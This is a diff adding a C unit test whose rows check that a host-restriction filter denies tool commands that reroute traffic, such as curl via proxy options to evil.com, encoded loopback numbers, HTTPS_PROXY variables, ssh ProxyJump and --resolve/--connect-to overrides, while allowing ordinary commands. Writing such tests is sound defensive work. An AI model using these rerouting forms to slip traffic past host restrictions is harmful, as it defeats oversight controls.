@@ -167,3 +167,62 @@ Test(rev58_hosts, a_key_word_starting_with_prox_names_a_host)
 
     kt_run_rows_at(NOW, rows, sizeof(rows) / sizeof(rows[0]));
 }
+
+/* Review 18 of these readings: F2, more ways to hand a tool a host (a
+ * host option's value, glued or a bare number; KEY=VALUE words whose KEY
+ * names a host; a list of addresses in a field), and F4, the false
+ * denials the first version made (every option's value, times, ratios,
+ * versions and a "prox" key word such as proximity). */
+Test(rev58_hosts, host_options_and_host_assignments_are_read_and_ordinary_commands_are_not)
+{
+    static const kt_row rows[] = {
+        {KT_DX("api.example.com"),
+         WITH_URL("\"cmd\":\"curl -x 2130706433 https://api.example.com/\""), 0},
+        {KT_DX("api.example.com"),
+         WITH_URL("\"cmd\":\"curl --socks5 2130706433 https://api.example.com/\""), 0},
+        {KT_DX("api.example.com"),
+         WITH_URL("\"cmd\":\"curl -x0x7f000001 https://api.example.com/\""), 0},
+        {KT_DX("api.example.com"),
+         WITH_URL("\"cmd\":\"curl -xevil.com:3128 https://api.example.com/\""), 0},
+        {KT_DX("api.example.com"),
+         WITH_URL("\"cmd\":\"curl --proxy=evil.com https://api.example.com/\""), 0},
+        {KT_DX("api.example.com"),
+         WITH_URL("\"cmd\":\"HTTPS_PROXY=evil.com:3128 curl https://api.example.com/\""), 0},
+        {KT_DX("api.example.com"), WITH_URL("\"env\":[\"HTTPS_PROXY=2130706433:3128\"]"), 0},
+        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"ssh -o ProxyJump=evil.com host\""), 0},
+        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"ssh -oProxyJump=evil.com host\""), 0},
+        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"ssh -J evil.com host\""), 0},
+        {KT_DX("api.example.com"),
+         WITH_URL("\"cmd\":\"curl --resolve api.example.com:443:10.0.0.1,10.0.0.2 "
+                  "https://api.example.com/\""),
+         0},
+        {KT_DX("api.example.com"),
+         WITH_URL(
+             "\"cmd\":\"curl --resolve api.example.com:443:10.0.0.1 https://api.example.com/\""),
+         0},
+        {KT_DX("api.example.com"),
+         WITH_URL("\"args\":[\"--connect-to\",\"api.example.com:443:evil.com:443\"]"), 0},
+        /* F4: ordinary commands and values stay allowed */
+        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"pip install -r requirements.txt\""), 1},
+        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"kubectl apply -f deploy.yaml\""), 1},
+        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"tar -xzf archive.tar.gz\""), 1},
+        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"python -m http.server 8000\""), 1},
+        {KT_DX("api.example.com"),
+         WITH_URL("\"cmd\":\"curl -o out.json https://api.example.com/\""), 1},
+        {KT_DX("api.example.com"),
+         WITH_URL("\"cmd\":\"ffmpeg -i in.mp4 -ss 1:23.5 -t 0:30.25 out.mp4\""), 1},
+        {KT_DX("api.example.com"), WITH_URL("\"ts\":\"1:23.456\""), 1},
+        {KT_DX("api.example.com"), WITH_URL("\"version\":\"1:2.34-1ubuntu1\""), 1},
+        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"apt-get install libc6=1:2.36-9\""), 1},
+        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"python train.py --lr:0.001\""), 1},
+        {KT_DX("api.example.com"), WITH_URL("\"text\":\"ratio 16:9 at 1:1.5 scale\""), 1},
+        {KT_DX("api.example.com"), WITH_URL("\"geo\":\"lat:48.8566,lon:2.3522\""), 1},
+        {KT_DX("api.example.com"), WITH_URL("\"pair\":\"key:0x1234567\""), 1},
+        {KT_DX("api.example.com"), WITH_URL("\"proximity\":\"near\""), 1},
+        {KT_DX("api.example.com"), WITH_URL("\"image\":\"nginx:1.25.3\""), 1},
+        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"docker pull redis:7.2\""), 1},
+        {KT_DX("api.example.com"), WITH_URL("\"env\":[\"DEBUG=1\",\"LOG_FILE=app.log\"]"), 1},
+    };
+
+    kt_run_rows_at(NOW, rows, sizeof(rows) / sizeof(rows[0]));
+}
